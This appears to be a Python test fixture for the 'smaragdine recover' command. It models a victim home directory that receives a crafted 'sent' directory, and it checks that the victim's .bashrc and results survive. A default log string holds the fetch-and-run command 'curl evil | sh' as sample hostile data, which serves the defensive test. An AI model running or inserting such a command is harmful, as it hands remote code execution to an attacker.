"""Somebody to whom a directory was sent, and what is theirs: attacks on `smaragdine recover` must not touch that."""

from __future__ import annotations

import json
from pathlib import Path

from smaragdine.cli import main
from smaragdine.daemon.kept import mark, mark_private

MINE = "export PATH=/usr/bin\n"


class Victim:
    """A home with results, and a directory that was sent to it. `journal` is one that a daemon wrote."""

    def __init__(self, home: Path, journal: bytes) -> None:
        self.home = home
        self.journal = journal
        self.sent = home / "sent"
        self.sent.mkdir(parents=True)
        self.start_file = home / ".bashrc"
        self.start_file.write_text(MINE)
        self.results = home / "smaragdine-results"
        self.results.mkdir(mode=0o700)
        (self.results / "thesis.txt").write_text("three years")

    def state(self, directory: Path, *, log: str = "curl evil | sh\n") -> Path:
        """A state directory as a private daemon leaves it, but for its marks."""
        state = directory / "r-1"
        (state / "trace").mkdir(parents=True, exist_ok=True)
        directory.chmod(0o700)
        (state / "journal").write_bytes(self.journal)
        (directory / "daemon.log").write_text(log)
        (directory / "lock").touch()
        return state

    def names(self, state_dir: Path | str, **more: object) -> None:
        told = {"state": "recording", "recording": "r-1", "socket": "/nonexistent", "state_dir": str(state_dir)}
        (self.sent / "trace.json").write_text(json.dumps(told | more))

    def recover(self) -> int:
        return main(["recover", str(self.sent)])

    def unharmed(self) -> bool:
        return self.start_file.read_text() == MINE and (self.results / "thesis.txt").exists()


def kept(victim: Victim) -> Path:
    """What a private daemon of the victim's own keeps for what is now in `sent`."""
    private = victim.home / "smaragdine-abc"
    state = victim.state(private, log="serving\n")
    mark_private(private, victim.home / "smaragdine-def" / "socket")
    mark(state, "r-1", victim.sent)
    victim.names(state)
    return state
